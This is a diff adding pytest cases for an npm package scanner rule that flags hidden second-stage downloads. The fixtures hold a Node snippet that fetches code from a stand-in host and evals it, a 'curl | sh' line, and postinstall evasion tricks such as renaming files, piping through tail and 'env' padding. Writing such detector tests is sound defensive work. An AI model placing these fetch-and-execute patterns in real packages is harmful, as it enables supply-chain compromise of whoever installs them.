@@ -1,0 +1,72 @@
+"""Code that runs unasked from where nobody looks for code: found when it runs, and where nothing runs it, silent."""
+
+from __future__ import annotations
+
+import pytest
+
+from assay.rules import fetch_001_second_stage
+from tests.npm_behaviour import npm_package, npm_worst
+
+FETCHED = """
+    require('https').get('https://x.example.invalid/p', r => {
+      let d = ''; r.on('data', c => d += c); r.on('end', () => eval(d))
+    })
+"""
+SHELL = "curl -s https://x.example.invalid/p | sh\n"
+RULE = fetch_001_second_stage.RULE
+
+
+def at_install(line: str) -> dict[str, object]:
+    return {"scripts": {"postinstall": line}}
+
+
+@pytest.mark.parametrize(
+    ("files", "fields"),
+    [
+        ({"index.js": "require('./a.txt')", "a.txt": FETCHED}, {}),
+        ({"index.js": "require('./logo.png')", "logo.png": FETCHED}, {}),
+        ({"index.js": "require('./NOTES')", "NOTES": FETCHED}, {}),
+        ({"index.js": "require('./a.txt')", "a.txt": "require('./b.css')", "b.css": FETCHED}, {}),
+        ({"a.txt": FETCHED}, {"main": "a.txt"}),
+        ({"run": FETCHED}, {"bin": "run"}),
+        ({"run.txt": FETCHED}, {"exports": {"./x": {"node": "./run.txt"}}}),
+        ({"index.js": "eval(require('fs').readFileSync(__dirname + '/a.txt', 'utf8'))", "a.txt": FETCHED}, {}),
+        ({"test/s.js": FETCHED}, {"exports": {"./*": "./test/*"}}),
+    ],
+)
+def test_what_is_loaded_is_code_whatever_its_name(files: dict[str, str], fields: dict[str, object]) -> None:
+    assert npm_worst(RULE, npm_package(files, fields)) in ("high", "critical")
+
+
+@pytest.mark.parametrize(
+    ("name", "content", "line"),
+    [
+        ("s.txt", FETCHED, "node s.txt"),
+        ("s.txt", FETCHED, "node < s.txt"),
+        ("s.txt", f"what people read\n{FETCHED}", "tail -n +2 s.txt | node"),
+        ("s.txt", FETCHED, "cp s.txt s.js && node s.js"),
+        ("s.txt", FETCHED, "mv ./s.txt lib.js; node lib"),
+        ("s.txt", FETCHED, "cat s.txt > /tmp/s.js; node /tmp/s.js"),
+        ("s.txt", FETCHED, "cp s.txt /tmp && node /tmp/s.txt"),
+        ("s.txt", SHELL, "sh s.txt"),
+        ("s", SHELL, "chmod +x s; ./s"),
+        ("s", SHELL, "cp s z; sh ./z"),
+        ("s.js", FETCHED, f"{'env ' * 100}node s.js"),
+    ],
+)
+def test_what_scripts_run_is_read_whatever_its_name(name: str, content: str, line: str) -> None:
+    assert npm_worst(RULE, npm_package({name: content}, at_install(line))) == "critical"
+
+
+@pytest.mark.parametrize(
+    ("files", "fields"),
+    [
+        ({"index.js": "require('./style.css')", "style.css": "a { color: red }", "README.md": FETCHED}, {}),
+        ({"index.js": "1", "a.txt": FETCHED}, {}),
+        ({"index.js": "1", "s.txt": SHELL}, at_install("cp s.txt t.txt && node index.js")),
+        ({"index.js": "console.log(require('fs').readFileSync(__dirname + '/a.txt', 'utf8'))", "a.txt": FETCHED}, {}),
+        ({"index.js": "1", "test/s.js": "1"}, {"exports": {"./*": "./*"}}),
+    ],
+)
+def test_texts_that_nothing_runs_are_no_code(files: dict[str, str], fields: dict[str, object]) -> None:
+    assert npm_worst(RULE, npm_package(files, fields)) == "none"
